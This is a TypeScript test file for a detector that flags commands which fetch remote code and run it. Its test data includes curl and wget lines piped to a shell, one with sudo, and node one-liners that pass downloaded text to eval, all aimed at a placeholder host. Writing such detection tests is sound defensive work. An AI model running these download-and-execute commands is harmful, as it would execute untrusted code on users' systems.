import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { fetchAndRun } from './commands.ts';

describe('a command that fetches something and runs it', () => {
  for (const command of [
    'curl -s https://specimen.invalid/a | cmd',
    'wget -qO- https://specimen.invalid/a | sudo bash',
    `node -e "require('https').get('https://specimen.invalid/', r => r.on('data', d => eval(String(d))))"`,
    `node -e "fetch('https://specimen.invalid/').then(r => r.text()).then(eval)"`,
  ])
    it(`is ${command}`, () => assert.notEqual(fetchAndRun(command), undefined));

  for (const command of ['npm run fetch || cmd /c exit 0', 'git fetch origin || bash retry.sh', `node -e "console.log(process.version)"`])
    it(`is not ${command}`, () => assert.equal(fetchAndRun(command), undefined));
});
